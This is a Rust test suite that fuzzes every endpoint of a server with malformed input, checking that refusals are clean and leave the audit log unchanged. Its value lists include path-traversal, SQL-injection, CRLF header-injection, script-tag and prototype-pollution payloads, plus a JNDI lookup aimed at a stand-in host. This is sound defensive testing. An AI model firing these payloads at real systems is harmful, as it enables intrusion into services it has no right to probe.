//! Every endpoint there is, with values that nobody should send: in each parameter of its path, in its query and as its
//! body. A new one is among them at once.

use super::Target;
use super::wire::{Answer, Wire};
use crate::server::described;
use carta_server::{COGNITO_OPERATIONS, ROUTES, Route};

/// As they stand in a path or a query.
const VALUES: &[&str] = &[
    "",
    ".",
    "..",
    "%2e",
    "%2e%2e",
    "..%2f..%2fuser",
    "%2e%2e%2fuser",
    "..;",
    "%252e%252e",
    "%2f",
    "%2F%2F",
    "%5c",
    "a%2fb",
    "%00",
    "a%00b",
    "%ff",
    "%c0%ae",
    "%ed%a0%80",
    "%f4%90%80%80",
    "%",
    "%2",
    "%zz",
    "%u0041",
    "+",
    "%20",
    "%09",
    "%0d%0ax-evil:1",
    "%0a",
    "%e2%80%ae",
    "%e2%80%8b",
    "%ef%bb%bf",
    "%ef%bc%8e%ef%bc%8e",
    "a%cc%81",
    "%c3%a1",
    "%e2%84%aa",
    "%f0%9f%92%a9",
    "%ef%bf%bf",
    "'%20or%20'1'='1",
    "'--",
    "1;drop%20table%20users",
    "%25",
    "_",
    "*",
    "?",
    "$%7bjndi:ldap://evil.test%7d",
    "%7buser%7d",
    "%3cscript%3e",
    "null",
    "true",
    "-1",
    "0",
    "9223372036854775808",
    "1e999",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "00000000-0000-4000-8000-000000000000%00",
    "Carta:Administrators",
    ":",
    "a:b:c",
];

/// Whatever an endpoint may ask for: those that it doesn't know it may read over.
const QUERIES: &[&str] = &[
    "name",
    "until",
    "expires",
    "userType",
    "userId",
    "role",
    "attributeName",
    "attributeFilter",
    "attributeValue",
    "actor",
    "after",
    "limit",
    "since",
];

const ODD_QUERIES: &[&str] = &[
    "name=%0d%0ax-evil:1",
    "name=",
    "name=%zz",
    "&&&",
    "=",
    "?",
    "%",
    "%00=%00",
    "name[]=a",
    "a=1;b=2",
];

/// Not even text.
const BYTES: &[&[u8]] = &[
    b"\xff\xfe{\0}\0",
    b"{\"name\":\"\xff\"}",
    b"{\"name\":\"evil\",\"x\":\"\xc0\xae\"}",
    b"\x1f\x8b\x08\0",
];

/// For all that a body may hold.
const BODIES: &[&str] = &[
    "null",
    "true",
    "0",
    "-0",
    "\"\"",
    "[]",
    "[[]]",
    "[\"evil\"]",
    "[\"evil\",null,null,null,null,null]",
    "",
    " ",
    "{",
    "}",
    "{}x",
    "{}{}",
    "{},",
    "{},{}",
    "{'name':'evil'}",
    "{name:\"evil\"}",
    "{\"name\":\"evil\",}",
    "// \n{\"name\":\"evil\"}",
    "\u{feff}{\"name\":\"evil\"}",
    "{\"name\":\"evil\"}\0",
    "{\"name\":\"evil\",\"name\":\"evil\"}",
    "{\"name\":\"evil\",\"n\\u0061me\":\"evil\"}",
    "{\"name\":\"evil\",\"x\":1,\"x\":2}",
    "{\"name\":\"evil\",\"x\":[{\"y\":{\"z\":1,\"z\":2}}]}",
    "{\"name\":\"evil\\ud800\"}",
    "{\"name\":\"\\udc00\\ud800\"}",
    "{\"name\":\"evil\",\"x\":\"\\ud800\"}",
    "{\"name\":\"evil\",\"x\":1e999}",
    "{\"name\":\"evil\",\"x\":-1e999}",
    "{\"name\":\"evil\",\"x\":NaN}",
    "{\"name\":\"evil\",\"x\":Infinity}",
    "{\"name\":\"evil\",\"x\":0x10}",
    "{\"name\":\"evil\",\"x\":01}",
    "{\"name\":\"evil\",\"x\":\"\n\"}",
    "{\"name\":\"evil\"",
    "{\"name\":\"evil}",
    "{\"name\":null}",
    "{\"name\":0}",
    "{\"name\":[]}",
    "{\"name\":{}}",
    "{\"name\":true}",
    "{\"name\":\"\"}",
    "{\"name\":\" \"}",
    "{\"name\":\"\\u0000\"}",
    "{\"name\":\"..\"}",
    "{\"name\":\"evil\\r\\nx-evil: 1\"}",
    "{\"name\":\"\\u202elive\"}",
    "{\"name\":\"'; drop table users; --\"}",
    "{\"\":0}",
    "{\"__proto__\":{\"name\":\"evil\"}}",
];

impl Target {
    /// A connection that is there, whatever became of the one before.
    fn ask(&self, wire: &mut Option<Wire>, said: &[u8]) -> Answer {
        let open = wire.get_or_insert_with(|| self.wire());
        open.try_send(said);
        let answer = open.answer().unwrap_or_else(|| {
            panic!("no answer to {:?}", String::from_utf8_lossy(said));
        });
        if answer.header("connection") == Some("close") {
            *wire = None;
        }
        answer
    }
}

/// Never a failure of the server's own, and a refusal that a client can read.
fn assert_sound(answer: &Answer, said: &str) {
    assert!(answer.status < 500, "{said}: {answer:?}");
    assert!(!answer.names().contains(&"x-evil".to_owned()), "{said}: {answer:?}");
    if answer.status >= 400 {
        let json = answer.json();
        let (error, kind) = (&json["error"], &json["__type"]);
        let text = if kind.is_string() { &json["message"] } else { error };
        let text = text.as_str().unwrap_or_else(|| panic!("{said}: {answer:?}"));
        assert!(!text.is_empty() && !text.chars().any(char::is_control), "{said}: {answer:?}");
        let inner = ["sqlite", "src/", "panic", "thread", "INSERT", "SELECT"];
        assert!(!inner.iter().any(|word| text.contains(word)), "{said}: {answer:?}");
        assert!(text.len() < 2000, "{said}: {} bytes of refusal", text.len());
    }
}

/// What is sent to one endpoint.
struct Attempt<'a> {
    path: String,
    headers: &'a str,
    body: &'a [u8],
}

impl Attempt<'static> {
    fn at(path: String) -> Self {
        Self { path, headers: "", body: b"" }
    }
}

struct Trial<'a> {
    target: &'a Target,
    wire: Option<Wire>,
    refused: usize,
}

impl<'a> Trial<'a> {
    fn new(target: &'a Target) -> Self {
        Self { target, wire: None, refused: 0 }
    }

    /// Makes all of them, as an administrator, and sees to it that those that are refused change nothing.
    fn make(&mut self, route: &Route, attempts: Vec<Attempt<'_>>) {
        let mut left = attempts;
        // Where some succeed, what the others do is seen without them.
        for _ in 0..4 {
            let before = self.last_change();
            let sent = left.len();
            left.retain(|attempt| self.send(route, attempt).status >= 400);
            if left.len() == sent {
                self.refused += sent;
                assert_eq!(self.last_change(), before, "refused by {route:?}, and yet it changed");
                return;
            }
            if route.method == "GET" {
                return;
            }
        }
        panic!("{route:?} refuses what it takes a moment later");
    }

    fn send(&mut self, route: &Route, attempt: &Attempt<'_>) -> Answer {
        let Attempt { path, headers, body } = attempt;
        let said = format!("{} {path}", route.method);
        let head = super::head(&said, &self.target.admin);
        let length = body.len();
        let head = format!("{head}{headers}content-length: {length}\r\n\r\n");
        let answer = self.target.ask(&mut self.wire, &[head.as_bytes(), body].concat());
        let body = String::from_utf8_lossy(&body[..length.min(300)]);
        let said = format!("{said} {headers} {body}");
        assert_sound(&answer, &said);
        described::check_answer(route.method, path, &answer.as_received(), &said);
        answer
    }

    /// The last entry of the audit.
    fn last_change(&mut self) -> String {
        let mut after = String::from("0");
        loop {
            let path = format!("GET /audit?limit=1000&after={after}");
            let said = super::head(&path, &self.target.admin) + "\r\n";
            let page = self.target.ask(&mut self.wire, said.as_bytes());
            assert_eq!(page.status, 200, "{page:?}");
            let page = page.json();
            match page["next"].as_str() {
                Some(next) => next.clone_into(&mut after),
                None => {
                    let last = page["entries"].as_array().and_then(|entries| entries.last());
                    return last.expect("an administrator was made")["id"].to_string();
                }
            }
        }
    }

    /// Whether the endpoint reads JSON: then it minds what isn't said to be any.
    fn reads(&mut self, route: &Route) -> bool {
        let headers = "content-type: text/plain\r\n";
        let attempt = Attempt { path: plain(route.path), headers, body: b"{}" };
        route.path != "/" && self.send(route, &attempt).status == 415
    }
}

/// The path with this in place of one of its parameters, and what is plain in place of the others; for each of them.
fn filled(path: &str, value: &str) -> Vec<String> {
    let parts: Vec<_> = path.split(['{', '}']).collect();
    let parameters = parts.len() / 2;
    (0..parameters)
        .map(|chosen| {
            let part = |(index, part): (usize, &&str)| match index % 2 {
                0 => (*part).to_owned(),
                _ if index / 2 == chosen => value.to_owned(),
                _ => "plain".to_owned(),
            };
            parts.iter().enumerate().map(part).collect()
        })
        .collect()
}

fn plain(path: &str) -> String {
    filled(path, "plain").pop().unwrap_or_else(|| path.to_owned())
}

#[tokio::test]
async fn whatever_stands_in_a_path_is_answered_and_what_is_refused_changes_nothing() {
    let target = Target::new().await;
    let (long, escaped) = ("a".repeat(30_000), "%f0%9f%92%a9".repeat(2_000));
    let mut trial = Trial::new(&target);
    for route in ROUTES {
        let values = VALUES.iter().copied().chain([long.as_str(), &escaped]);
        let paths = values.flat_map(|value| filled(route.path, value));
        trial.make(route, paths.map(Attempt::at).collect());
    }
    assert!(trial.refused > 10 * ROUTES.len(), "{}", trial.refused);
}

#[tokio::test]
async fn whatever_stands_in_a_query_is_answered_and_what_is_refused_changes_nothing() {
    let target = Target::new().await;
    let mut trial = Trial::new(&target);
    for route in ROUTES {
        let odd = ODD_QUERIES.iter().map(|query| (*query).to_owned());
        let long = format!("name={}", "a".repeat(30_000));
        let named = QUERIES.iter().flat_map(|name| {
            // Of two, nobody can tell which one was meant.
            let twice = format!("{name}=a&{name}=b");
            let values = ["%00", "%ff", "-1", "'%20or%201=1--"];
            values.map(|value| format!("{name}={value}")).into_iter().chain([twice])
        });
        let path = plain(route.path);
        let attempts = odd.chain([long]).chain(named);
        let attempts = attempts.map(|query| Attempt::at(format!("{path}?{query}")));
        trial.make(route, attempts.collect());
    }
}

#[tokio::test]
async fn whatever_stands_in_a_body_is_answered_and_what_is_refused_changes_nothing() {
    let target = Target::new().await;
    let large = large_bodies();
    let small = || BODIES.iter().map(|body| body.as_bytes()).chain(BYTES.iter().copied());
    let large = || large.iter().map(String::as_bytes);
    let mut trial = Trial::new(&target);
    for route in ROUTES.iter().filter(|route| route.method != "GET" && route.path != "/") {
        let large = large().filter(|_| trial.reads(route));
        let bodies: Vec<_> = small().chain(large).collect();
        let attempt = |body| {
            let headers = "content-type: application/json\r\n";
            Attempt { path: plain(route.path), headers, body }
        };
        trial.make(route, bodies.into_iter().map(attempt).collect());
    }
    let login = ROUTES.iter().find(|route| route.path == "/").expect("where logins go");
    for operation in COGNITO_OPERATIONS {
        let headers = format!(
            "content-type: application/x-amz-json-1.1\r\n\
             x-amz-target: AWSCognitoIdentityProviderService.{operation}\r\n"
        );
        let attempt = |body| Attempt { path: "/".to_owned(), headers: &headers, body };
        let before = trial.refused;
        let attempts: Vec<_> = small().chain(large()).map(attempt).collect();
        let sent = attempts.len();
        trial.make(login, attempts);
        assert_eq!(trial.refused - before, sent, "{operation} takes one of these");
    }
}

/// Though each of the two would do.
#[tokio::test]
async fn bodies_with_two_values_for_one_name_are_refused_by_whoever_reads_one() {
    let target = Target::new().await;
    let mut trial = Trial::new(&target);
    let mut readers = 0;
    for route in ROUTES {
        if trial.reads(route) {
            readers += 1;
            let headers = "content-type: application/json\r\n";
            let body = b"{\"x\":{\"y\":1,\"y\":1}}";
            let answer = trial.send(route, &Attempt { path: plain(route.path), headers, body });
            assert_eq!(answer.status, 400, "{route:?}: {answer:?}");
            assert!(answer.error().contains("`y` stands twice"), "{route:?}: {answer:?}");
        }
    }
    assert!(readers >= 7, "{readers} endpoints read a body");
}

fn large_bodies() -> [String; 5] {
    let (open, close) = ("[".repeat(30_000), "]".repeat(30_000));
    [
        format!("{{\"name\":\"evil\",\"x\":{open}{close}}}"),
        "{\"a\":".repeat(10_000),
        format!("{{\"name\":\"{}\"}}", "a".repeat(60_000)),
        format!("{{\"name\":\"evil\",\"name\":[{}0]}}", "0,".repeat(30_000)),
        format!("{{\"name\":{}}}", "9".repeat(60_000)),
    ]
}
